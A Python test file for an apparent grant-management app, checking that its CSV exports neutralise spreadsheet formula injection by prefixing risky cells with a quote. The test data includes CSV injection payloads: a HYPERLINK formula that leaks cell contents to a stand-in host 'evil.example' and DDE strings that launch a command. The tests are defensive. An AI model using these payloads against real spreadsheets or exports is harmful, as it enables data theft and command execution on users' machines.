"""Every CSV export guards cells a spreadsheet would run as a formula (OWASP's CSV injection
rule: a leading =, +, -, @, tab or carriage return gets a ' prefix), and leaves numbers numeric."""
from __future__ import annotations

import csv
import io

from grantflow.core import roles as R
from grantflow.core.db import db
from tests import factories as F
from tests.equity.builders import Spec, build_program

PAYLOAD = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
PAYLOADS = (PAYLOAD, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1")


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_guarded(cells: list[str]) -> None:
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or _numeric(cell), repr(cell)


def _numeric(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_audit_csv_guards_a_criterion_label(app, login):
    funder = F.funder()
    specs = [Spec(poc=i % 2 == 0, awarded=i % 4 == 1,
                  reviews={"Rae": [2, 2, 1] if i % 2 == 0 else [4, 5, 4], "Sam": [2, 1, 2]}) for i in range(24)]
    prog, _ = build_program(funder, specs, slug="formula-audit")
    for criterion, payload in zip(prog.current_rubric.criteria, PAYLOADS):
        criterion.label = payload
    officer = F.user(org=funder, role=R.PROGRAM_OFFICER)
    db.session.commit()
    rows = _rows(login(officer).get("/programs/formula-audit/audit.csv").get_data(as_text=True))
    cells = [c for r in rows for c in r]
    assert "'" + PAYLOAD in cells
    _assert_guarded(cells)
    # Plain negative numbers stay numbers (a gap below zero is a figure, not a formula).
    assert any(c.startswith("-") and _numeric(c) for c in cells)


def test_audit_cli_csv_guards_too(app, tmp_path):
    from flask import current_app

    funder = F.funder()
    prog, _ = build_program(funder, [Spec(poc=True, reviews={"Rae": [3, 3, 3]}) for _ in range(12)],
                            slug="formula-cli")
    prog.current_rubric.criteria[0].label = PAYLOAD
    db.session.commit()
    out = tmp_path / "audit.csv"
    res = current_app.test_cli_runner().invoke(args=["audit", prog.slug, "--format", "csv", "-o", str(out)])
    assert res.exit_code == 0, res.output
    cells = [c for r in _rows(out.read_text()) for c in r]
    assert "'" + PAYLOAD in cells
    _assert_guarded(cells)


def test_board_csv_guards_every_text_cell(app, login):
    funder = F.funder(slug="formula-funder")
    prog = F.program(funder, slug="formula-board")
    officer = F.user(org=funder, role=R.PROGRAM_OFFICER)
    F.need(funder, "@need", 1)
    for payload in PAYLOADS:
        F.application(prog, F.cbo(name=payload), title=payload)
    db.session.commit()
    rows = _rows(login(officer).get("/programs/formula-board/board.csv").get_data(as_text=True))
    cells = [c for r in rows for c in r]
    for payload in PAYLOADS:
        assert cells.count("'" + payload) == 2  # title and applicant
    _assert_guarded(cells)


def test_guard_rule():
    from grantflow.core.csvfile import guard

    for payload in PAYLOADS:
        assert guard(payload) == "'" + payload
    for plain in ("-12", "-0.25", "+3", "-1e-05", "12", "Housing", "", "a=b", " =1"):
        assert guard(plain) == plain
    assert guard(-3) == -3 and guard(None) is None
